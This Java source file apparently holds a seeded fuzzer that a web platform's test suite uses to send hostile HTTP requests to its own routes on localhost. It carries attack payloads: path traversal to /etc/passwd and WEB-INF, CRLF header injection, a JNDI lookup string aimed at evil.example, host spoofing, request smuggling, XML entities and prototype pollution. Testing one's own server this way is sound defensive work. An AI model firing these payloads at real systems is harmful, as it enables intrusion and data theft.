package org.campaignmaterials.platform;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import org.campaignmaterials.accounts.Route;

/**
 * Makes hostile requests, the same ones from the same seed: any route, from anybody, with paths,
 * headers, bodies, encodings and cookies that no page and no honest program sends.
 */
final class HostileRequests {
  private static final String FORM = "application/x-www-form-urlencoded";
  private static final String JSON = "application/json";

  /** Fields that pages and calls have. */
  private static final List<String> FIELDS =
      List.of(
          "name",
          "email",
          "phone",
          "note",
          "reason",
          "step",
          "lines",
          "sku",
          "quantity",
          "contact.name",
          "contact.email",
          "contact.sector",
          "shipTo.line1",
          "shipTo.zip",
          "shipTo.state",
          "quantity.RR-101-en",
          "formKey",
          "warehouse",
          "occurredOn",
          "heldOn",
          "organization",
          "kind",
          "sector",
          "id",
          "key",
          "token",
          "password",
          "code",
          "next",
          "from",
          "to",
          "quarter",
          "status",
          "number",
          "coalition",
          "role_admin",
          "answer",
          "accepted",
          "rejected",
          "text",
          "url",
          "date",
          "place",
          "zip3",
          "change",
          "page");

  private static final List<String> PARAMETERS =
      List.of(
          "q",
          "page",
          "size",
          "sort",
          "audience",
          "language",
          "format",
          "topic",
          "key",
          "next",
          "add",
          "coalition",
          "for",
          "from",
          "to",
          "sku",
          "warehouse",
          "status",
          "token",
          "unsaved");

  private static final List<String> STEPS =
      List.of(
          "/../../WEB-INF/web.xml",
          "/..%2f..%2fWEB-INF%2fweb.xml",
          "/%2e%2e/%2e%2e/META-INF/MANIFEST.MF",
          "/%252e%252e/%252e%252e/etc/passwd",
          "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
          "/..;/..;/campaign/accounts",
          ";jsessionid=%s",
          ";%s",
          "//",
          "/./",
          "%%00",
          "%%00.jpg",
          "%%zz",
          "%%",
          "%%5c..%%5c",
          "\\..\\..\\",
          "/%s%%3Ci%%3E",
          "/%%22%%3E%s%%3Ci%%3E",
          "/%%0d%%0aX-Injected:%%20yes",
          "/%%E2%%80%%AE%s",
          ".json",
          ".jsp",
          "~",
          "/.git/config",
          "?",
          "#%s",
          "/*",
          "/{number}",
          "/\u00e9\u00f1");

  private final Random random;
  private final List<Route> routes = Route.all();
  private final List<HostileCaller> callers;
  private final List<String> coalitions;
  private int made;

  /**
   * Makes them.
   *
   * @param callers who sends them; managers of coalitions among them
   * @param coalitions numbers of coalitions with something to hide
   */
  HostileRequests(long seed, List<HostileCaller> callers, List<String> coalitions) {
    this.random = new Random(seed);
    this.callers = callers;
    this.coalitions = coalitions;
  }

  HostileRequest next() {
    Route route = one(routes);
    HostileCaller caller = one(callers);
    var request = new HostileRequest(made++, caller, route.method(), "");
    request.target = address(route, request);
    request.header("Host", "localhost").header("Connection", "close");
    // Each from a network of its own: what is counted by network must not stop the next.
    request.header("X-Forwarded-For", "198.18.%d.%d".formatted(made / 250, made % 250 + 1));
    if (!caller.authorization().isEmpty()) {
      request.header("Authorization", caller.authorization());
    }
    if (!route.isReading()) {
      fill(route, request);
    }
    int times = 1 + random.nextInt(3);
    for (int time = 0; time < times; time++) {
      spoil(route, request);
    }
    return request;
  }

  private void spoil(Route route, HostileRequest request) {
    boolean hasBody = !route.isReading() || random.nextInt(8) == 0;
    switch (random.nextInt(14)) {
      case 0 -> spoilPath(request);
      case 1 -> spoilMethod(request);
      case 2 -> spoilProtocol(request);
      case 3, 4, 5 -> spoilQuery(request);
      case 6, 7, 8 -> spoilHeaders(request);
      case 9, 10 -> spoilCookies(request);
      default -> {
        if (hasBody) {
          spoilBody(route, request);
        } else {
          spoilQuery(request);
        }
      }
    }
  }

  /** Ids are of others, of nothing, or none at all. */
  private String address(Route route, HostileRequest request) {
    String address =
        random.nextInt(4) == 0 && !route.isCall() ? "/es" + route.path() : route.path();
    while (address.contains("{")) {
      address =
          address.replaceFirst("\\{[^}]*}", java.util.regex.Matcher.quoteReplacement(id(request)));
    }
    return address;
  }

  private String id(HostileRequest request) {
    return switch (random.nextInt(9)) {
      case 0, 1, 2 -> one(coalitions);
      case 3 -> "RR-101";
      case 4 -> "2026-Q3";
      case 5 -> "999999";
      case 6 -> one(List.of("-1", "0", "9223372036854775808", "1e9", "01", "NaN", "null", "1.0"));
      default -> {
        // An encoded slash or zero is refused by the server itself: mostly it should come further.
        String text = HostileText.encoded(random, request.mark()).replace("+", "%20");
        yield random.nextInt(8) == 0
            ? text
            : text.replaceAll("%2F|%5C|%00|%C0%AE|%C0%AF|%zz|%$|%ED%A0%80|%FF%FE", "");
      }
    };
  }

  private void fill(Route route, HostileRequest request) {
    if (route.isCall()) {
      request.header("Idempotency-Key", "k" + request.mark());
      request.body(JSON, json(request));
    } else {
      request.body(FORM, form(request));
    }
  }

  private String form(HostileRequest request) {
    List<String> fields = new ArrayList<>();
    if (random.nextInt(10) > 1) {
      fields.add("formToken=" + request.caller().formToken());
    }
    int count = 1 + random.nextInt(8);
    for (int field = 0; field < count; field++) {
      fields.add(
          URLEncoder.encode(one(FIELDS), StandardCharsets.UTF_8)
              + "="
              + URLEncoder.encode(HostileText.any(random, request.mark()), StandardCharsets.UTF_8));
    }
    return String.join("&", fields);
  }

  private String json(HostileRequest request) {
    String text = quoted(HostileText.any(random, request.mark()));
    return switch (random.nextInt(14)) {
      case 0 -> "{\"contact\": {\"name\": %s, \"email\": %1$s}, \"lines\": %1$s}".formatted(text);
      case 1 -> "{\"lines\": [{\"sku\": %s, \"quantity\": \"5\"}]}".formatted(text);
      case 2 -> "{\"lines\": [{\"sku\": \"RR-101-en\", \"quantity\": 1e400}]}";
      case 3 -> "{\"lines\": [{\"sku\": \"RR-101-en\", \"quantity\": NaN}]}";
      case 4 -> "{\"lines\": [{\"quantity\": 9223372036854775808}]}";
      case 5 -> "[".repeat(20_000);
      case 6 -> "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000);
      case 7 -> "{\"name\": 1, \"name\": %s}".formatted(text);
      case 8 -> "\uFEFF{\"name\": %s}".formatted(text);
      case 9 -> one(List.of("null", "[]", "\"\"", "", "{", "{}{}", "{\"a\":tru", "1", "{'a':1}"));
      case 10 -> "{\"__proto__\": {\"admin\": true}, %s: %1$s}".formatted(text);
      case 11 ->
          "{\"warehouse\": %s, \"lines\": [{\"sku\": %1$s, \"change\": -1}]}".formatted(text);
      default ->
          FIELDS.stream()
              .map(field -> quoted(field) + ": " + text)
              .collect(Collectors.joining(", ", "{", "}"));
    };
  }

  private static String quoted(String text) {
    return jakarta.json.Json.createValue(text).toString();
  }

  private void spoilPath(HostileRequest request) {
    String step = one(STEPS);
    String filled =
        step.contains("%%") || step.contains("%s")
            ? step.replace("%s", request.mark()).replace("%%", "%")
            : step;
    int at = request.target.length() > 1 ? 1 + random.nextInt(request.target.length()) : 1;
    request.target =
        random.nextBoolean()
            ? request.target + filled
            : request.target.substring(0, at) + filled + request.target.substring(at);
    if (random.nextInt(30) == 0) {
      request.target = "/" + "a".repeat(7_000) + request.mark();
    }
    request.spoiled("path");
  }

  private void spoilQuery(HostileRequest request) {
    List<String> parameters = new ArrayList<>();
    int count = random.nextInt(20) == 0 ? 60 : 1 + random.nextInt(4);
    for (int parameter = 0; parameter < count; parameter++) {
      String name =
          random.nextInt(8) == 0 ? HostileText.encoded(random, request.mark()) : one(PARAMETERS);
      String value = count > 10 ? request.mark() : HostileText.encoded(random, request.mark());
      parameters.add(name + (random.nextInt(15) == 0 ? "" : "=" + value));
    }
    String separator = request.target.contains("?") ? "&" : "?";
    request.target += separator + String.join(one(List.of("&", "&", "&&", ";")), parameters);
    request.spoiled("query");
  }

  private void spoilHeaders(HostileRequest request) {
    String mark = HostileText.marked(request.mark());
    switch (random.nextInt(26)) {
      case 0 -> request.line("Host: evil.example");
      case 1 -> request.header("Host", "evil.example:99999");
      case 2 -> request.header("Host", mark);
      case 3 -> request.without("Host");
      case 4 -> request.header("X-Forwarded-Host", "evil.example").header("Forwarded", "host=evil");
      case 5 -> request.header("X-Forwarded-For", mark + ", unknown, 1.2.3.4.5");
      case 6 ->
          request.header("X-Forwarded-Proto", "javascript").line("X-Forwarded-Proto: " + mark);
      case 7 -> request.header("X-HTTP-Method-Override", "DELETE").header("X-Method", "PUT");
      case 8 ->
          request.header("X-Original-URL", "/campaign/accounts").header("X-Rewrite-URL", "/a");
      case 9 -> request.header("Accept", one(List.of("*/*;q=x", mark, "text/*, ,", "a/b;" + mark)));
      case 10 -> request.header("Accept-Language", "en-US-" + mark + ",;;q=9," + "x".repeat(3_000));
      case 11 -> request.header("Accept-Encoding", "gzip;q=NaN, " + mark + ", *;q=0");
      case 12 -> request.header("Content-Type", one(List.of(mark, "/", "text/html", "a/b; c=\"")));
      case 13 ->
          request.header("If-None-Match", one(List.of(mark, "\"", "W/", "*, *", "\"a\", x")));
      case 14 -> request.header("If-Modified-Since", mark).header("If-Match", "*" + mark);
      case 15 -> request.header("Range", one(List.of("bytes=5-3", "bytes=0-,".repeat(500), mark)));
      case 16 -> request.header("Expect", mark);
      case 17 -> spoilCredentials(request, mark);
      case 18 ->
          request.header("Origin", one(List.of("null", "https://evil.example", mark, "://")));
      case 19 -> request.header("Sec-Fetch-Site", one(List.of("cross-site", "same-site", mark)));
      case 20 -> request.header("Referer", "https://evil.example/" + mark);
      case 21 -> request.header("User-Agent", "Mozilla/5.0 ${jndi:ldap://evil.example/} " + mark);
      case 22 -> request.header("X-Long", "A".repeat(random.nextBoolean() ? 7_000 : 20_000));
      case 23 -> {
        for (int line = 0; line < 150; line++) {
          request.line("X-Many-" + line + ": " + mark);
        }
      }
      case 24 -> request.header("Idempotency-Key", mark.repeat(random.nextInt(60)));
      default -> request.header("Upgrade", "h2c").header("HTTP2-Settings", "AAMAAABkAAQAAP__");
    }
    request.spoiled("headers");
  }

  private void spoilCredentials(HostileRequest request, String mark) {
    request.header(
        "Authorization",
        one(
            List.of(
                "Basic",
                "Basic " + mark,
                "Basic ====",
                "Basic OmE=",
                "Basic //79",
                "Bearer " + mark,
                "Bearer " + "a".repeat(5_000),
                "Digest username=\"" + mark + "\"",
                "Negotiate YII=",
                mark)));
  }

  private void spoilCookies(HostileRequest request) {
    String mark = request.mark();
    request.header(
        "Cookie",
        one(
            List.of(
                "session=" + mark,
                "session=" + "A".repeat(43),
                "session=; session=" + mark + "; session=\"",
                "__Host-session=" + mark,
                "device=" + "A".repeat(43) + "." + "B".repeat(22),
                "device=" + mark + ".".repeat(50),
                "news=" + mark,
                "news=eyJhIjoiJHs3Kjd9In0." + mark,
                "$Version=1; $Path=/; JSESSIONID=" + mark,
                "a=" + "x".repeat(6_500),
                "\u00e9=\u00f1; =; ;;",
                "session=" + HostileText.marked(mark),
                ("c=" + mark + "; ").repeat(150),
                "session=%00%0d%0a" + mark)));
    request.spoiled("cookies");
  }

  private void spoilBody(Route route, HostileRequest request) {
    String mark = request.mark();
    switch (random.nextInt(15)) {
      case 0 -> request.body("multipart/form-data", "--x\r\n" + mark);
      case 1 ->
          request.body(
              "multipart/form-data; boundary=x",
              "--x\r\nContent-Disposition: form-data; name=\"a\"; filename=\"../../" + mark);
      case 2 ->
          request.body("text/xml", "<!DOCTYPE a [<!ENTITY b \"" + mark + "\">]><a>&b;&b;</a>");
      case 3 -> request.body(FORM + "; charset=utf-7", "name=+ADw-script+AD4-" + mark);
      case 4 -> request.body(FORM + "; charset=" + mark, "name=" + mark);
      case 5 ->
          request.body(
              JSON + "; charset=utf-16",
              ("{\"name\": \"" + mark + "\"}").getBytes(StandardCharsets.UTF_16));
      case 6 ->
          request.body(JSON, new byte[] {'{', '"', (byte) 0xC0, (byte) 0xAF, (byte) 0xFF, '"'});
      case 7 -> request.body(FORM, "name=%zz&" + mark + "=%&%=%00");
      case 8 -> request.body(FORM, (mark + "=a&").repeat(4_000));
      case 9 -> request.body(FORM, "a=" + "%41".repeat(60_000));
      case 10 -> request.body(route.isCall() ? JSON : FORM, "x".repeat(1_100_000));
      case 11 -> request.body("application/octet-stream", mark);
      case 12 -> request.body(JSON, json(request));
      case 13 -> request.body(FORM, form(request));
      default -> request.body(FORM, "_method=DELETE&formToken=" + mark + "&=&&=a&name");
    }
    request.spoiled("body");
  }

  private void spoilMethod(HostileRequest request) {
    request.method =
        one(
            List.of(
                "PUT",
                "DELETE",
                "PATCH",
                "OPTIONS",
                "HEAD",
                "TRACE",
                "CONNECT",
                "PROPFIND",
                "get",
                "POST",
                "GET",
                "G\u00c9T",
                "X".repeat(300),
                request.mark()));
    request.spoiled("method");
  }

  private void spoilProtocol(HostileRequest request) {
    request.isNoHttp = true;
    byte[] own = request.body;
    switch (random.nextInt(17)) {
      case 0 -> request.version = "HTTP/9.9";
      case 1 -> request.version = "HTTP/1.0";
      case 2 -> {
        request.version = "";
        request.isBrokenOff = true;
      }
      case 3 -> request.lineEnd = "\n";
      case 4 -> request.line("no colon here " + request.mark());
      case 5 -> request.line("X Space : " + request.mark());
      case 6 -> request.line(" folded " + request.mark());
      case 7 -> request.line("X-Null: a\u0000b").line("X-Return: a\rX-Injected: yes");
      case 8 -> {
        request.line("Content-Length: -5");
        request.isBrokenOff = true;
      }
      case 9 -> {
        request.line("Content-Length: 99999999999999999999");
        request.isBrokenOff = true;
      }
      case 10 -> {
        request.line("Content-Length: " + (own.length + 500));
        request.saysLength = false;
        request.isBrokenOff = true;
      }
      case 11 -> {
        request.line("Content-Length: 3").line("Content-Length: 30");
        request.isBrokenOff = true;
      }
      case 12 -> smuggle(request, "Transfer-Encoding: chunked");
      case 13 -> smuggle(request, "Transfer-Encoding: xchunked");
      case 14 -> smuggle(request, "Transfer-Encoding : chunked");
      case 15 -> {
        request.line("Transfer-Encoding: chunked");
        request.saysLength = false;
        request.body = ("ZZ;" + request.mark() + "\r\nhello\r\n").getBytes(StandardCharsets.UTF_8);
        request.isBrokenOff = true;
      }
      default ->
          request.target = one(List.of("*", "http://evil.example/catalog", "evil", "", " /"));
    }
    request.spoiled("protocol");
  }

  /** A second request in the body of the first, for whoever measures bodies otherwise. */
  private static void smuggle(HostileRequest request, String encoding) {
    byte[] second =
        "0\r\n\r\nGET /campaign/accounts HTTP/1.1\r\nHost: localhost\r\n\r\n"
            .getBytes(StandardCharsets.US_ASCII);
    request.line("Content-Length: " + second.length).line(encoding);
    request.saysLength = false;
    request.body = Arrays.copyOf(second, second.length);
    request.isBrokenOff = true;
  }

  private <T> T one(List<T> of) {
    return of.get(random.nextInt(of.size()));
  }
}
